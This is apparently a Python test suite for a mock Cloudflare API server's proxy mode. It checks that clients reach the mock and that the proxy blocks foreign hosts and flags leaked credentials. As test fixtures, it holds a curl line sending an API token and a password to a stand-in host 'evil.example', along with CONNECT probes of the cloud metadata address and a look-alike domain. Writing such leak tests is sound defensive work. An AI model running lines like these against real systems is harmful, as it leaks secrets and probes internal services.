#!/usr/bin/python3
"""--proxy as its users meet it: clients with the API's host built in, and what the proxy must never do."""
import base64
import os
import shutil
import socket
import ssl
import subprocess
import tempfile
import unittest

from cfmock_process import PLAIN, PYTHON, SOURCE_DIR, Server, run
from tls_peer import port_of, trusting

API = "https://api.cloudflare.com/client/v4"
LEXICON = [PYTHON, "-m", "lexicon", "cloudflare"] if shutil.which("lexicon") is None else ["/usr/bin/lexicon", "cloudflare"]
REQUESTS = "import os, requests; print(requests.get(%r, headers={'Authorization': 'Bearer ' + os.environ['CLOUDFLARE_API_TOKEN']}).status_code)"
UNDICI = ("const {EnvHttpProxyAgent, setGlobalDispatcher, fetch} = require('undici'); setGlobalDispatcher(new EnvHttpProxyAgent());"
          "fetch('%s/zones', {headers: {Authorization: `Bearer ${process.env.CLOUDFLARE_API_TOKEN}`}})"
          ".then(r => console.log(r.status), e => console.log(e.cause?.message ?? e.message))")
# Each says what the list of zones was answered with, and ends with $CODE.
JUDGED = {
    "undici": ["node", "-e", "const {ProxyAgent, fetch} = require('undici');"
               f"fetch('{API}/zones', {{dispatcher: new ProxyAgent(process.env.HTTPS_PROXY), headers: {{Authorization: `Bearer ${{process.env.CLOUDFLARE_API_TOKEN}}`}}}})"
               ".then(r => r.text()).then(body => { console.log(body); process.exitCode = +process.env.CODE; })"],
    "requests": [PYTHON, "-c", "import os, sys, requests\n"
                 f"print(requests.get('{API}/zones', headers={{'Authorization': 'Bearer ' + os.environ['CLOUDFLARE_API_TOKEN']}}).text)\n"
                 "sys.exit(int(os.environ['CODE']))"],
    "openssl": ["sh", "-c", r"""printf 'GET /client/v4/zones HTTP/1.1\r\nHost: api.cloudflare.com\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n' \
        "$CLOUDFLARE_API_TOKEN" | openssl s_client -quiet -ign_eof -proxy "${HTTPS_PROXY#*@}" -connect api.cloudflare.com:443 \
        -servername api.cloudflare.com -verify_hostname api.cloudflare.com -verify_return_error; exit "$CODE" """],
}


def connect(server, target, user=None, rest=b""):
    """A CONNECT, and the socket with the head of its answer."""
    proxy = server.env.get("HTTPS_PROXY") or server.env["HTTPS_PROXY_EXPIRED_TOKEN"]
    plain = socket.create_connection(("127.0.0.1", port_of(proxy)), 10)
    head = f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n"
    if user is not None:
        head += "Proxy-Authorization: Basic " + base64.b64encode(f"{user}:".encode()).decode() + "\r\n"
    plain.sendall(head.encode() + b"\r\n" + rest)
    answer = b""
    while b"\r\n\r\n" not in answer:
        piece = plain.recv(1)
        if not piece:
            break
        answer += piece
    return plain, answer.decode()


class Proxy(unittest.TestCase):
    def test_clients_with_the_host_built_in(self):
        with Server(PLAIN, "--proxy") as server:
            self.assertEqual(server.env["CLOUDFLARE_BASE_URL"], API)
            curl = server.client(["sh", "-c", f'curl -sS -o /dev/null -w %{{http_code}} -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN" {API}/zones'])
            self.assertEqual((curl.stdout, curl.stderr), ("200", ""))
            requests = server.client([PYTHON, "-c", REQUESTS % f"{API}/zones"])
            self.assertEqual(requests.stdout, "200\n", requests.stderr)
            undici = server.client(["node", "-e", UNDICI % API], NODE_PATH=os.path.join(SOURCE_DIR, "tests/node/node_modules"))
            self.assertEqual(undici.stdout, "200\n", undici.stderr)
            self.assertEqual(server.calls(), ["GET /zones 200"] * 3)
            hosts = [value for row in server.journal() for name, value in row["headers"] if name.lower() == "host"]
            self.assertEqual(hosts, ["api.cloudflare.com"] * 3)

    def test_lexicon_unchanged(self):
        with Server(PLAIN, "--proxy") as server:
            listed = server.client(["sh", "-c", 'exec "$@" --auth-token "$CLOUDFLARE_API_TOKEN" list example.com A', "sh", *LEXICON])
            self.assertEqual(listed.returncode, 0, listed.stderr)
            self.assertIn("www.example.com", listed.stdout)
            self.assertEqual(server.calls()[0], "GET /zones 200")

    def test_lexicon_is_judged(self):
        client = ["sh", "-c", 'exec "$@" --auth-token "$CLOUDFLARE_API_TOKEN" list example.com A', "sh", *LEXICON]
        done = run("run", "expired-token", "--proxy", "--", *client)
        self.assertIn("GET /zones?name=example.com&status=active -> 403 9109", done.stdout)
        self.assertEqual(done.returncode, 4, done.stdout)  # it ends in a traceback, and does not name the code

    def test_who_heeds_the_proxy_is_judged(self):
        for name, client in JUDGED.items():
            for code, verdict, ended in (("1", "MET", 0), ("0", "NOT MET", 4)):
                with self.subTest(name, code=code):
                    done = run("run", "expired-token", "--proxy", "--", *client, CODE=code, NODE_PATH=os.path.join(SOURCE_DIR, "tests/node/node_modules"))
                    self.assertRegex(done.stdout, f"^{verdict}  expired-token: ")
                    self.assertIn("#1 +0.000s GET /zones -> 403 9109", done.stdout)
                    self.assertRegex(done.stdout, f", exit {code} after [^,]*, 1 request\n")
                    self.assertIn('the output mentions "9109"', done.stdout)
                    self.assertEqual(done.returncode, ended, done.stdout)

    def test_it_reaches_nothing_else(self):
        with Server(PLAIN, "--proxy") as server:
            control = port_of(server.env["CFMOCK_CONTROL"])
            targets = ["example.com:443", f"127.0.0.1:{control}", f"localhost:{control}", "api.cloudflare.com:80", "api.cloudflare.com.evil.example:443", "169.254.169.254:80"]
            for target in targets:
                plain, answer = connect(server, target)
                plain.close()
                self.assertTrue(answer.startswith("HTTP/1.1 403 "), (target, answer))
            plain = socket.create_connection(("127.0.0.1", port_of(server.env["HTTPS_PROXY"])), 10)
            with plain:
                plain.sendall(f"GET http://127.0.0.1:{control}/sessions HTTP/1.1\r\nHost: 127.0.0.1:{control}\r\n\r\n".encode())
                answer = b"".join(iter(lambda: plain.recv(4096), b"")).decode()
            self.assertTrue(answer.startswith("HTTP/1.1 403 "), answer)
            self.assertIn("reaches nothing but cfmock", answer)
            rows = server.journal()
            self.assertEqual({row["cause"] for row in rows}, {"foreign-host"})
            asked = [f"CONNECT {target}" for target in targets] + [f"GET http://127.0.0.1:{control}/sessions"]
            self.assertEqual([row["why"] for row in rows], [f"{each} is for another host than api.cloudflare.com: the proxy reaches nothing but cfmock" for each in asked])
            self.assertEqual([row["method"] for row in rows], ["CONNECT"] * len(targets) + ["GET"])

    def test_a_url_in_the_query_is_no_host(self):
        with Server(PLAIN, "--proxy") as server:
            for path, status in (("zones?name=http://example.com/", 200), ("nonsense?u=https://api.cloudflare.com/client/v4/zones", 400)):
                got = server.client(["sh", "-c", f'curl -sS -o /dev/null -w %{{http_code}} -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN" "{API}/{path}"'])
                self.assertEqual(got.stdout, str(status), path)
            self.assertNotIn("foreign-host", [row.get("cause") for row in server.journal()])

    def test_a_credential_for_another_host_is_a_leak(self):
        with tempfile.TemporaryDirectory() as folder:
            path = os.path.join(folder, "scenario.yaml")
            with open(path, "w", encoding="utf-8") as out:
                out.write(PLAIN + "allow: [other_hosts, no_requests]\n")
            steps = 'curl -sS -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN" http://bob:hunter2@evil.example/a'
            client = os.path.join(folder, "client.sh")
            with open(client, "w", encoding="utf-8") as out:
                out.write(steps)
            done = run("run", path, "--proxy", "--json", os.path.join(folder, "out.json"), "--", "sh", client)
            self.assertEqual(done.returncode, 4, done.stdout)
            self.assertIn("credential sent to another host", done.stdout)
            with open(os.path.join(folder, "out.json"), encoding="utf-8") as report:
                self.assertNotIn("hunter2", report.read())

    def test_only_another_host_is_no_request(self):
        with tempfile.TemporaryDirectory() as folder:
            path = os.path.join(folder, "scenario.yaml")
            with open(path, "w", encoding="utf-8") as out:
                out.write(PLAIN + "allow: other_hosts\n")
            done = run("run", path, "--proxy", "--", "sh", "-c", "curl -sS http://telemetry.example.com/; true")
            self.assertEqual(done.returncode, 5, done.stdout)

    def test_the_environment_leaves_the_control_api_alone(self):
        with Server(PLAIN, "--proxy") as server:
            got = server.client(["sh", "-c", 'curl -sS "$CFMOCK_CONTROL/ca"'], NO_PROXY=server.env["NO_PROXY"])
            self.assertTrue(got.stdout.startswith("-----BEGIN CERTIFICATE-----"), got.stdout + got.stderr)
            self.assertTrue(server.env["CFMOCK_ADDRESS"].startswith("http://127.0.0.1:"))

    def test_a_user_that_cannot_be_read_is_nobody(self):
        with Server(PLAIN, "--proxy") as server:
            with socket.create_connection(("127.0.0.1", port_of(server.env["HTTPS_PROXY"])), 10) as plain:
                plain.sendall(b"CONNECT api.cloudflare.com:443 HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Bearer abc\r\n\r\n")
                self.assertIn(b"HTTP/1.1 407", plain.recv(4096))

    def test_openssl_through_the_proxy(self):
        with Server(PLAIN, "--proxy") as server:
            shown = subprocess.run(["openssl", "s_client", "-proxy", f"127.0.0.1:{port_of(server.env['HTTPS_PROXY'])}", "-connect", "api.cloudflare.com:443",
                                    "-verify_hostname", "api.cloudflare.com", "-verify_return_error", "-brief", "-CAfile", server.env["CFMOCK_CA"]],
                                   input="", capture_output=True, text=True, timeout=30, check=False)
            self.assertIn("Verification: OK", shown.stderr)

    def test_a_connect_inside_a_tunnel_is_for_another_host(self):
        with Server(PLAIN, "--proxy") as server:
            plain, _ = connect(server, "api.cloudflare.com:443")
            with trusting(server.env["CFMOCK_CA"]).wrap_socket(plain, server_hostname="api.cloudflare.com") as tls:
                tls.sendall(b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")
                self.assertIn(b"HTTP/1.1 403", tls.recv(65536))
            self.assertEqual(server.journal()[-1]["cause"], "foreign-host")

    def test_another_host_fails_the_run(self):
        steps = 'curl -sS -o /dev/null -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN" "$CLOUDFLARE_BASE_URL/zones"; curl -s https://telemetry.example.com/; exit 1'
        done = run("run", "expired-token", "--proxy", "--", "sh", "-c", steps)
        self.assertEqual(done.returncode, 4, done.stdout)
        self.assertIn("no connection goes to another host", done.stdout)
        self.assertIn("telemetry.example.com:443", done.stdout)
        with tempfile.TemporaryDirectory() as folder:
            path = os.path.join(folder, "scenario.yaml")
            with open(path, "w", encoding="utf-8") as out:
                out.write(PLAIN + "allow: other_hosts\n")
            done = run("run", path, "--proxy", "--", "sh", "-c", steps)
            self.assertEqual(done.returncode, 0, done.stdout)

    def test_sessions_by_proxy_user(self):
        with Server("expired-token", "no-dns-permission", "--proxy") as server:
            for user, code in (("expired-token", "200"), ("no-dns-permission", "200"), ("nobody", "407"), (None, "407")):
                plain, answer = connect(server, "api.cloudflare.com:443", user)
                plain.close()
                self.assertEqual(answer.split(" ")[1], code, answer)
                if code == "407":
                    self.assertIn("Proxy-Authenticate: Basic", answer)

    def test_another_host_is_in_no_journal_when_nobody_knows_whose_it_is(self):
        with Server("expired-token", "no-dns-permission", "--proxy") as server:
            for user, code in ((None, "407"), ("nobody", "407"), ("no-dns-permission", "403")):
                plain, answer = connect(server, "example.com:443", user)
                plain.close()
                self.assertEqual(answer.split(" ")[1], code, answer)
            self.assertEqual([(row["session"], row["cause"]) for row in server.journal()], [("no-dns-permission", "foreign-host")])

    def test_a_tunnel_ends_in_its_own_session(self):
        with Server("expired-token", "no-dns-permission", "--proxy") as server:
            plain, _ = connect(server, "api.cloudflare.com:443", "expired-token")
            other = server.env["CLOUDFLARE_API_TOKEN_NO_DNS_PERMISSION"]
            with trusting(server.env["CFMOCK_CA"]).wrap_socket(plain, server_hostname="api.cloudflare.com") as tls:
                for target in ("/client/v4/user/tokens/verify", "/_s/no-dns-permission/client/v4/user/tokens/verify"):
                    tls.sendall(f"GET {target} HTTP/1.1\r\nHost: api.cloudflare.com\r\nAuthorization: Bearer {other}\r\n\r\n".encode())
                    answer = tls.recv(65536).decode()
                    self.assertNotIn("200 OK", answer)
            self.assertEqual({row["session"] for row in server.journal()}, {"expired-token"})

    def test_a_hello_right_behind_the_connect(self):
        """A client need not wait for the 200."""
        with Server(PLAIN, "--proxy") as server:
            incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
            tls = trusting(server.env["CFMOCK_CA"]).wrap_bio(incoming, outgoing, server_hostname="api.cloudflare.com")
            with self.assertRaises(ssl.SSLWantReadError):
                tls.do_handshake()
            plain, answer = connect(server, "api.cloudflare.com:443", rest=outgoing.read())
            self.assertIn("200", answer)
            with plain:
                for _ in range(20):
                    try:
                        tls.do_handshake()
                        break
                    except ssl.SSLWantReadError:
                        incoming.write(plain.recv(65536))
                self.assertEqual(tls.getpeercert()["subjectAltName"], (("DNS", "api.cloudflare.com"),))

    def test_absolute_form(self):
        with Server(PLAIN, "--proxy") as server:
            got = server.client(["sh", "-c", 'curl -sS -o /dev/null -w %{http_code} -H "Authorization: Bearer $CLOUDFLARE_API_TOKEN" http://api.cloudflare.com/client/v4/zones'])
            self.assertEqual(got.stdout, "200", got.stderr)
            self.assertEqual(server.calls(), ["GET /zones 200"])
            self.assertEqual(server.journal()[0]["leaks"], ["credential sent in clear text, to http://api.cloudflare.com"])


if __name__ == "__main__":
    unittest.main()
